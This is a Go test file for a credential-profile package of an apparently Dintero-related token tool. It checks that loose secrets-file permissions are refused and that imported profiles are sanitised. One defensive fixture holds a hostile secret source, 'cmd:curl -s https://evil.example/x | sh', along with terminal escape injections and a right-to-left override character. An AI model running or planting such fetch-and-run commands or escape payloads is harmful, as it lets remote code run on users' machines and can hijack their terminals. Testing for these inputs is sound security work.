package profiles

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"strings"
	"testing"
)

// Issue 9, item 5: a plain secrets file that others can read is refused,
// with the chmod to run, and its secrets are not read or rewritten.
func TestLooseSecretsFileRefused(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("no mode bits")
	}
	sec, st := newSecrets(t)
	p := Profile{Name: "x", Account: "T11223344", Grant: "client_credentials", Secrets: map[Kind]Source{ClientSecret: SourceFile}}
	if err := sec.Put(p, ClientSecret, "file-secret-value"); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(st.Dir, SecretsFileName)
	if err := sec.CheckFile(); err != nil {
		t.Fatalf("0600 file: %v", err)
	}
	for _, mode := range []os.FileMode{0o640, 0o604, 0o660, 0o602} {
		if err := os.Chmod(path, mode); err != nil {
			t.Fatal(err)
		}
		before, _ := os.ReadFile(path)
		_, err := sec.Get(context.Background(), p, ClientSecret)
		var loose *LooseFileError
		if !errors.As(err, &loose) || !strings.Contains(err.Error(), "chmod 600 "+path) || strings.Contains(err.Error(), "file-secret-value") {
			t.Fatalf("mode %o: got %v", mode, err)
		}
		if err := sec.CheckFile(); !errors.As(err, &loose) {
			t.Fatalf("CheckFile at %o: %v", mode, err)
		}
		// Nor is it written: a save would carry on as if all were well.
		if err := sec.Put(p, ClientSecret, "another"); !errors.As(err, &loose) {
			t.Fatalf("Put at %o: %v", mode, err)
		}
		after, _ := os.ReadFile(path)
		if string(after) != string(before) {
			t.Fatal("the loose file was rewritten")
		}
	}
	// The command in the message fixes it.
	if err := os.Chmod(path, 0o600); err != nil {
		t.Fatal(err)
	}
	if v, err := sec.Get(context.Background(), p, ClientSecret); err != nil || v != "file-secret-value" {
		t.Fatalf("after chmod: %q %v", v, err)
	}
}

func TestLooseFileErrorQuotesPath(t *testing.T) {
	err := &LooseFileError{Path: "/home/a b/it's/secrets.yaml", Mode: 0o644}
	if !strings.Contains(err.Error(), `chmod 600 '/home/a b/it'\''s/secrets.yaml'`) || !strings.Contains(err.Error(), "mode 0644") {
		t.Fatal(err)
	}
}

// Issue 9, item 1: an import never brings a command, an environment
// variable or the plain-text file across, and shows where the profile
// points.
func TestReviewImport(t *testing.T) {
	p := Profile{
		Name: "evil", Account: "T11223344", Grant: "password", ClientID: "cid\u202e",
		BaseURL: "http://127.0.0.1:9/v1", JWKSURL: "http://keys.example.com/jwks.json",
		RedirectURI: "https://example.com/cb\x1b]52;c;aGk=\x07",
		Notes:       "hello\x1b[2J",
		Secrets: map[Kind]Source{
			ClientSecret: "cmd:curl -s https://evil.example/x | sh", Password: "env:HOME",
			RefreshToken: SourceFile, Bearer: SourceKeyring, Tokens: "cmd:id",
		},
	}
	r := ReviewImport(p)
	want := map[Kind]Source{ClientSecret: SourceKeyring, Password: SourceAsk, RefreshToken: SourceKeyring, Bearer: SourceKeyring}
	if len(r.Profile.Secrets) != len(want) {
		t.Fatalf("secrets %v", r.Profile.Secrets)
	}
	for k, v := range want {
		if r.Profile.Secrets[k] != v {
			t.Errorf("%s: %s, want %s", k, r.Profile.Secrets[k], v)
		}
	}
	if r.Profile.JWKSURL != "" {
		t.Error("kept a plain-http JWKS URL")
	}
	if err := r.Profile.Validate(); err != nil {
		t.Fatal(err)
	}
	all := strings.Join(append(r.Changed, r.Check...), "\n")
	for _, s := range []string{"client_secret: a command (cmd:…) became keyring", "password: environment variable \"HOME\" became ask",
		"refresh_token: the plain-text secrets file became keyring", `dropped the "tokens" secret source`,
		`base url "http://127.0.0.1:9/v1" is not Dintero's API`, "over plain http", "dropped jwks url",
		"redirect uri", "client id holds control", "notes hold control"} {
		if !strings.Contains(all, s) {
			t.Errorf("review lacks %q:\n%s", s, all)
		}
	}
	// Nothing of the command is repeated, and nothing unsanitised is shown.
	if strings.Contains(all, "curl") || strings.ContainsAny(all, "\x1b\x07\u202e") {
		t.Fatalf("review shows:\n%q", all)
	}
	t.Logf("review:\n%s", all)
	if len(r.Changed) != 5 {
		t.Errorf("changed: %q", r.Changed)
	}

	// A profile with nothing to change or check gets empty lists.
	plain := ReviewImport(Profile{Name: "ok", Account: "T11223344", Grant: "client_credentials", Secrets: map[Kind]Source{ClientSecret: SourceKeyring}})
	if len(plain.Changed)+len(plain.Check) != 0 || plain.Profile.Secrets[ClientSecret] != SourceKeyring {
		t.Fatalf("%+v", plain)
	}
	// An https JWKS URL is kept and shown.
	ok := ReviewImport(Profile{Name: "ok", Account: "T11223344", Grant: "client_credentials", JWKSURL: "https://api.dintero.com/v1/accounts/T11223344/auth/.well-known/jwks.json?x=1"})
	if ok.Profile.JWKSURL == "" || len(ok.Check) != 1 {
		t.Fatalf("%+v", ok)
	}
}

// Every field an export can carry has been looked at by ReviewImport. A
// new field (a CA file, another URL) fails here until someone decides how
// an import treats it, and adds it to ReviewImport when it points anywhere
// or can make tokenbench read or run something.
func TestReviewImportKnowsEveryField(t *testing.T) {
	reviewed := map[string]string{
		"Name": "validated on parse", "Account": "validated", "Grant": "validated", "MFAChannel": "validated",
		"BaseURL":  "validated (https, or http to loopback) and shown when not Dintero's",
		"Audience": "shown when not the account's", "ClientID": "flagged when it holds controls", "Username": "flagged when it holds controls",
		"RedirectURI": "shown", "JWKSURL": "shown, or dropped when not https", "Notes": "flagged when it holds controls",
		"Secrets":    "only keyring and ask are kept",
		"KeepTokens": "keeps tokens in the keyring only",
		"IdentType":  "flagged when it holds controls; a user id is shown", "Ident": "flagged when it holds controls", "Connection": "flagged when it holds controls",
		"CustomerType": "flagged when it holds controls", "AuthorizeURL": "shown, or dropped when not http(s)", "OldCode": "dropped (a secret, never sent)", "Partner": "validated and shown", "AutoRefresh": "runs the profile's own grant", "RefreshBefore": "a duration",
	}
	typ := reflect.TypeOf(Profile{})
	for i := range typ.NumField() {
		if _, ok := reviewed[typ.Field(i).Name]; !ok {
			t.Errorf("Profile.%s is not reviewed on import: decide in ReviewImport, then list it here", typ.Field(i).Name)
		}
	}
	if len(reviewed) != typ.NumField() {
		t.Errorf("reviewed lists %d fields, Profile has %d", len(reviewed), typ.NumField())
	}
}
